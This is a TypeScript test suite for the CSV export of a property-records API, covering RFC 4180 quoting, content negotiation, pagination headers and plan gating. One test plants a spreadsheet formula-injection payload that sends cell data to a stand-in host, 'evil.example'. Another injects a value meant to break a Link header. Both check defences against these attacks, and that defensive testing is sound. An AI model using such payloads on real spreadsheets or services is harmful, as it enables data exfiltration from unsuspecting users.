// CSV on every list endpoint: the same rows as JSON field by field, RFC 4180 quoting, the plan gate, the headers that
// carry pagination, and errors that stay JSON.
import t from 'tap';
import { parse } from 'csv-parse/sync';
import { buildTestApp } from '../helpers/app.ts';

const { app, db, get, key, newClient, invalidate } = await buildTestApp(t);
const sql = db.sql;
// Many requests in this file: lift the per-minute and monthly limits of its own Growth client.
await sql`UPDATE accounts.clients SET custom_rpm = 1000000, custom_monthly_credits = 100000000`;

/** A client of the plan with one key, without a per-minute limit that this file's pace would reach. */
async function newClientOf(plan: string) {
  const c = await newClient(plan);
  await sql`UPDATE accounts.clients SET custom_rpm = 1000000 WHERE id = ${c.client.id}`;
  await invalidate(c.client.id);
  return c;
}

type Row = Record<string, unknown>;

const utcDay = () => new Date().toISOString().slice(0, 10);

/** The CSV body as records (a header row first); fails the test on anything RFC 4180 does not allow. */
const records = (body: string): string[][] => parse(body, { relax_column_count: false, record_delimiter: '\r\n' });

/** A JSON value as the CSV writes it. */
function cell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return String(value);
}

const LISTS = [
  '/v1/parcels/search?query=smith&limit=50',
  '/v1/parcels/search?county=miami-dade&sort=just_value_desc&limit=500',
  '/v1/parcels/1/sales',
  '/v1/sales/search?county=miami-dade,broward&limit=200',
  '/v1/tax-delinquencies/search?county=miami-dade&sort=due_asc&limit=300',
  '/v1/tax-delinquencies/by-parcel?parcel_id=01-3132-035-0010&county=miami-dade',
  '/v1/tax-delinquencies/sources',
  '/v1/tax-delinquencies/sources/broward',
  '/v1/counties',
];

t.test('each list endpoint: the CSV header and rows equal the JSON of the same request field by field', async (t) => {
  for (const url of LISTS) {
    const json = await get(url);
    t.equal(json.statusCode, 200, url);
    const body = json.json();
    const data = body.data as Row[];
    t.ok(data.length > 0, `${url}: the fixtures give rows to compare`);
    const sentOn = utcDay();
    const answers = [
      ['format=csv', await get(`${url}${url.includes('?') ? '&' : '?'}format=csv`)],
      ['Accept: text/csv', await get(url, { accept: 'text/csv' })],
    ] as const;
    const answeredOn = utcDay();
    for (const [how, res] of answers) {
      t.equal(res.statusCode, 200, `${url} ${how}`);
      t.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      const endpoint = url
        .replace(/^\/v1\//, '')
        .split('?')[0]!
        .replace(/\//g, '-');
      // the day in the name is the answer's; it must be the UTC day the request was sent or answered on
      const day = /-(\d{4}-\d{2}-\d{2})\.csv"$/.exec(String(res.headers['content-disposition']))?.[1];
      t.equal(res.headers['content-disposition'], `attachment; filename="${endpoint}-${day}.csv"`);
      t.ok(day === sentOn || day === answeredOn, `${day}: the UTC day of the request`);
      t.ok(res.headers['x-ratelimit-remaining'], 'the rate-limit headers of every answer');
      t.match(res.headers['x-request-id'], /^req_/);
      t.ok(res.body.endsWith('\r\n'), 'records end with CRLF');
      const [header, ...rows] = records(res.body);
      const columns = Object.keys(data[0]!).filter((k) => k !== 'geometry');
      t.same(header, columns, `${url}: the JSON field names in the JSON order, less the geometry`);
      t.equal(rows.length, data.length, 'one row per item');
      t.same(
        rows,
        data.map((item) => columns.map((c) => cell(item[c]))),
        `${url}: every field equals its JSON value`,
      );
      t.equal(
        Number(res.headers['x-total-count']),
        body.pagination?.total ?? data.length,
        'the total in X-Total-Count',
      );
    }
  }
});

t.test('numbers and booleans are written as JSON writes them; null is an empty field', async (t) => {
  const csv = records((await get('/v1/tax-delinquencies/sources?format=csv')).body);
  const header = csv[0]!;
  const json = (await get('/v1/tax-delinquencies/sources')).json().data as Row[];
  const at = (name: string) => header.indexOf(name);
  t.same(new Set(csv.slice(1).map((r) => r[at('active')])), new Set(['true', 'false']));
  t.same(new Set(csv.slice(1).map((r) => r[at('requiresLogin')])), new Set(['true', 'false']));
  const noDownload = json.findIndex((s) => s.downloadUrl === null);
  t.ok(noDownload >= 0);
  t.equal(csv[noDownload + 1]![at('downloadUrl')], '', 'null: an empty field');
  t.match(
    (await get('/v1/parcels/search?point=-80.19985,25.770135&format=csv')).body,
    /,25\.770135,-80\.19985\r\n$/,
    'a negative number is a number, not text made safe for spreadsheets',
  );
});

t.test('commas, quotes, CR and LF in owner names are quoted (RFC 4180); formulas are made text', async (t) => {
  const hostile = 'SMITH, JOHN "JJ"\nSECOND LINE\rTHIRD';
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  await sql`UPDATE core.parcels SET owner_name = ${hostile} WHERE id = 1`;
  await sql`UPDATE core.parcels SET owner_name = ${formula}, site_address_full = ${'-2+3'} WHERE id = 2`;
  t.teardown(async () => {
    await sql`UPDATE core.parcels SET owner_name = 'SMITH JOHN' WHERE id = 1`;
  });
  // the point on the shared edge of parcels 1 and 2 finds both
  const url = '/v1/parcels/search?point=-80.1997,25.770135&sort=id';
  const res = await get(`${url}&format=csv`);
  t.equal(res.statusCode, 200);
  t.ok(res.body.includes('"SMITH, JOHN ""JJ""\nSECOND LINE\rTHIRD"'), 'quoted, quotes doubled, CR and LF kept');
  const [header, one, two] = records(res.body);
  t.equal(one![header!.indexOf('owner_name')], hostile, 'a parser reads the value back exactly');
  t.equal(two![header!.indexOf('owner_name')], `'${formula}`, 'a leading = is written after an apostrophe');
  t.equal(two![header!.indexOf('site_address_full')], "'-2+3", 'so is a leading -');
  const json = (await get(url)).json().data as Row[];
  t.same([json[0]!.owner_name, json[1]!.owner_name], [hostile, formula], 'JSON is unchanged');
});

t.test('choosing the format: format wins over Accept; Accept by weight; JSON otherwise', async (t) => {
  const url = '/v1/counties';
  const type = async (query: string, accept?: string) =>
    (await get(`${url}${query}`, accept === undefined ? {} : { accept })).headers['content-type'];
  t.match(await type(''), /^application\/json/, 'no Accept');
  t.match(await type('', '*/*'), /^application\/json/);
  t.match(await type('', 'text/html,application/xhtml+xml,*/*;q=0.8'), /^application\/json/, 'a browser');
  t.match(await type('', 'application/json, text/csv'), /^application\/json/, 'a tie goes to JSON');
  t.match(await type('', 'text/csv;q=0.5, application/json;q=0.4'), /^text\/csv/, 'the heavier wins');
  t.match(await type('', 'TEXT/CSV'), /^text\/csv/, 'media types are case-insensitive');
  t.match(await type('', 'text/*'), /^text\/csv/, 'a subtype wildcard');
  t.match(await type('', 'text/csv;q=0, */*'), /^application\/json/, 'q=0 refuses');
  t.match(await type('', 'image/png'), /^application\/json/, 'nothing acceptable: JSON');
  t.match(await type('', 'text/csv;q=abc'), /^application\/json/, 'a malformed weight counts as 0');
  t.match(await type('', ',,;,/,text/'), /^application\/json/, 'garbage: JSON');
  t.match(await type('?format=json', 'text/csv'), /^application\/json/, 'format=json wins over Accept');
  t.match(await type('?format=csv', 'application/json'), /^text\/csv/, 'format=csv wins over Accept');
  t.equal((await get(url)).headers.vary, 'Accept', 'the answer varies with Accept');

  const bad = await get('/v1/sales/search?format=xml');
  t.equal(bad.statusCode, 400);
  t.equal(bad.json().error.message, "query parameter 'format' must be one of: json, csv");
  const twice = await get('/v1/sales/search?format=csv&format=json');
  t.equal(twice.statusCode, 400, 'format given twice');
  const geo = await get('/v1/sales/search?format=geojson');
  t.equal(geo.statusCode, 400, 'GeoJSON only where parcels are');
  const other = await get('/v1/counties/broward', { accept: 'text/csv' });
  t.match(other.headers['content-type'], /^application\/json/, 'a route without CSV answers JSON');
});

t.test('pagination goes to X-Total-Count and RFC 8288 Link headers', async (t) => {
  const base = '/v1/tax-delinquencies/search?county=miami-dade&sort=due_desc&limit=10';
  const json = (await get(`${base}&offset=10`)).json();
  const total = json.pagination.total as number;
  t.ok(total > 30, `${total} records`);
  const res = await get(`${base}&offset=10&format=csv`);
  t.equal(Number(res.headers['x-total-count']), total);
  t.equal(
    res.headers.link,
    '</v1/tax-delinquencies/search?county=miami-dade&sort=due_desc&limit=10&offset=20&format=csv>; rel="next", ' +
      '</v1/tax-delinquencies/search?county=miami-dade&sort=due_desc&limit=10&offset=0&format=csv>; rel="prev"',
  );
  const next = /<([^>]+)>; rel="next"/.exec(String(res.headers.link))![1]!;
  const nextCsv = records((await get(next)).body).slice(1);
  const nextJson = (await get(`${base}&offset=20`)).json().data as Row[];
  t.same(
    nextCsv.map((r) => r[0]),
    nextJson.map((r) => r.id),
    'the next link is the next page',
  );

  const first = await get(`${base}&format=csv`);
  t.equal(
    first.headers.link,
    `<${base}&format=csv&offset=10>; rel="next"`,
    'no prev on the first page; an offset not given is added',
  );
  const lastOffset = Math.floor((total - 1) / 10) * 10;
  const last = await get(`${base}&offset=${lastOffset}`, { accept: 'text/csv' });
  t.equal(
    last.headers.link,
    `<${base}&offset=${lastOffset - 10}>; rel="prev"`,
    'no next on the last page; Accept-chosen links ask by Accept again',
  );
  const deep = await get(`${base}&offset=3&format=csv`);
  t.match(deep.headers.link, /offset=0&format=csv>; rel="prev"/, 'prev never goes below 0');
  const api = await get('/api/v1/tax-delinquencies/search?county=miami-dade&limit=10&format=csv');
  t.match(api.headers.link, /^<\/api\/v1\/tax-delinquencies\/search\?/, 'links keep the base path asked');
  t.equal((await get('/v1/counties?format=csv')).headers.link, undefined, 'no link without pages');
});

t.test('links carry any filter value safely, and lead to the same filters', async (t) => {
  const owner = 'SMITH & JONES> ; rel="evil", <http://evil.example>';
  const url = `/v1/tax-delinquencies/search?owner=${encodeURIComponent(owner)}&county=miami-dade&limit=1&offset=1`;
  const res = await get(`${url}&format=csv`);
  t.equal(res.statusCode, 200);
  const link = String(res.headers.link);
  t.equal(link.match(/rel=/g)?.length, 1, 'one rel, the prev (no match, nothing follows)');
  t.notMatch(link, /evil\.example>|[\r\n]/, 'the value cannot close the link or start another');
  const prev = /^<([^>]+)>; rel="prev"$/.exec(link)![1]!;
  t.equal(new URL(prev, 'http://x').searchParams.get('owner'), owner, 'the filter value, whole');

  const query = 'smith john';
  const page = await get(`/v1/parcels/search?query=${encodeURIComponent(query)}&limit=2&format=csv`);
  const next = /<([^>]+)>; rel="next"/.exec(String(page.headers.link))![1]!;
  t.equal(new URL(next, 'http://x').searchParams.get('query'), query);
  const json = (await get(`/v1/parcels/search?query=${encodeURIComponent(query)}&limit=2&offset=2`)).json();
  t.same(
    records((await get(next)).body)
      .slice(1)
      .map((r) => Number(r[0])),
    json.data.map((p: Row) => p.id),
    'the next page of the same search',
  );
});

t.test('an Accept header is read up to its 64th media range', async (t) => {
  const filler = Array.from({ length: 63 }, (_, i) => `application/x-${i}`).join(', ');
  t.match((await get('/v1/counties', { accept: `${filler}, text/csv` })).headers['content-type'], /^text\/csv/);
  t.match(
    (await get('/v1/counties', { accept: `${filler}, application/x-63, text/csv` })).headers['content-type'],
    /^application\/json/,
    'a range past the 64th is not read',
  );
});

t.test('an empty page is the header row alone', async (t) => {
  const res = await get('/v1/tax-delinquencies/search?county=alachua&format=csv');
  t.equal(res.statusCode, 200);
  const rows = records(res.body);
  t.equal(rows.length, 1);
  t.equal(rows[0]![0], 'id');
  t.equal(res.headers['x-total-count'], '0');
  t.equal(res.headers.link, undefined);
});

t.test('errors stay JSON in the envelope, without download headers', async (t) => {
  for (const [url, status] of [
    ['/v1/parcels/search?limit=501&format=csv', 400],
    ['/v1/parcels/search?county=atlantis&format=csv', 400],
    ['/v1/parcels/999999/sales?format=csv', 404],
    ['/v1/tax-delinquencies/sources/atlantis?format=csv', 404],
  ] as const) {
    const res = await get(url);
    t.equal(res.statusCode, status, url);
    t.match(res.headers['content-type'], /^application\/json/);
    t.equal(res.headers['content-disposition'], undefined);
    t.equal(res.headers['x-total-count'], undefined);
    t.match(res.json().error, { request_id: /^req_/ });
  }
});

/** Charged requests of a client so far (pending and flushed). */
async function used(headers: Record<string, string>): Promise<number> {
  await app.flushUsage();
  return (await app.inject({ url: '/v1/account/usage', headers })).json().data.events_count;
}

t.test('the plan gate: CSV on Pro and up; 403 feature_not_in_plan otherwise, not charged', async (t) => {
  const expected: Record<string, number> = {
    free: 403,
    developer: 403,
    pro: 200,
    growth: 200,
    lead_feed: 200,
    enterprise: 200,
  };
  for (const [plan, status] of Object.entries(expected)) {
    const c = await newClientOf(plan);
    for (const how of [{ url: '/v1/counties?format=csv' }, { url: '/v1/counties', accept: 'text/csv' }]) {
      const res = await app.inject({
        url: how.url,
        headers: { ...c.headers, ...(how.accept ? { accept: how.accept } : {}) },
      });
      t.equal(res.statusCode, status, `${plan} ${how.url} ${how.accept ?? ''}`);
      if (status === 403) {
        t.match(res.headers['content-type'], /^application\/json/);
        const error = res.json().error;
        t.equal(error.code, 'feature_not_in_plan');
        t.match(error.message, /CSV output is not included in your plan; it is included in Pro, Growth, Lead Feed/);
        t.equal(res.headers['content-disposition'], undefined);
        t.ok(res.headers['x-ratelimit-limit'], 'a refusal carries the rate-limit headers');
      }
    }
    t.equal((await app.inject({ url: '/v1/counties', headers: c.headers })).statusCode, 200, `${plan}: JSON`);
    t.equal(await used(c.headers), status === 200 ? 3 : 1, `${plan}: only the 2xx answers are charged`);
  }
  const starter = await newClientOf('mcp_starter');
  const refused = await app.inject({ url: '/v1/counties?format=csv', headers: starter.headers });
  t.equal(refused.statusCode, 403);
  t.equal(refused.json().error.code, 'rest_disabled', 'MCP Starter is refused on REST anyway');

  const dev = await newClientOf('developer');
  await dev.svc.grantPack(dev.client.id, 'power');
  const withPack = await app.inject({ url: '/v1/counties?format=csv', headers: dev.headers });
  t.equal(withPack.statusCode, 403, 'a credit pack does not unlock CSV');
  const upgraded = await newClientOf('developer');
  await upgraded.svc.setPlan(upgraded.client.id, 'pro');
  t.equal(
    (await app.inject({ url: '/v1/counties?format=csv', headers: upgraded.headers })).statusCode,
    200,
    'a plan change reaches the gate at once',
  );
});

t.test('a CSV answer costs one credit, like its JSON twin', async (t) => {
  const c = await newClientOf('pro');
  for (const url of LISTS) {
    const res = await app.inject({ url: `${url}${url.includes('?') ? '&' : '?'}format=csv`, headers: c.headers });
    t.equal(res.statusCode, 200, url);
  }
  t.equal(await used(c.headers), LISTS.length);
});

t.test('a refusal by the metering replaces a CSV answer and keeps no download header', async (t) => {
  const c = await newClientOf('pro');
  await c.svc.setLimits(c.client.id, { rpm: 1 });
  const first = await app.inject({ url: '/v1/sales/search?format=csv', headers: c.headers });
  t.equal(first.statusCode, 200);
  const second = await app.inject({ url: '/v1/sales/search?format=csv', headers: c.headers });
  t.equal(second.statusCode, 429);
  t.match(second.headers['content-type'], /^application\/json/);
  t.equal(second.json().error.code, 'rate_limited');
  for (const h of ['content-disposition', 'x-total-count', 'link']) t.equal(second.headers[h], undefined, h);
});

t.test('HEAD asks the same: the headers of the CSV answer without its body', async (t) => {
  const res = await app.inject({
    method: 'HEAD',
    url: '/v1/counties?format=csv',
    headers: { authorization: `Bearer ${key}` },
  });
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  t.match(res.headers['content-disposition'], /^attachment; filename="counties-/);
  t.equal(res.body, '');
});

t.test('the OpenAPI document lists format on the routes that offer it; MCP tools have no format', async (t) => {
  const doc = (await app.inject({ url: '/v1/openapi.json' })).json();
  const formatOf = (path: string) =>
    (doc.paths[path].get.parameters as { name: string; schema: { enum?: string[] } }[]).find((p) => p.name === 'format')
      ?.schema.enum;
  t.same(formatOf('/v1/parcels/search'), ['json', 'csv', 'geojson']);
  t.same(formatOf('/v1/parcels/{id}'), ['json', 'geojson']);
  t.same(formatOf('/v1/counties'), ['json', 'csv']);
  t.same(formatOf('/v1/tax-delinquencies/sources'), ['json', 'csv']);
  t.equal(formatOf('/v1/counties/{county}'), undefined);
  t.match(doc.paths['/v1/sales/search'].get.responses['200'].description, /format=csv or Accept: text\/csv/);

  const mcp = await app.inject({
    method: 'POST',
    url: '/api/mcp',
    headers: {
      authorization: `Bearer ${key}`,
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
    },
    payload: { jsonrpc: '2.0', id: 1, method: 'tools/list' },
  });
  const tools = mcp.json().result.tools as { name: string; inputSchema: { properties: Record<string, unknown> } }[];
  const search = tools.find((tool) => tool.name === 'search_parcels')!;
  t.ok(search.inputSchema.properties.query, 'the tool input is read');
  t.notOk('format' in search.inputSchema.properties, 'no format argument leaks into MCP tools');
});
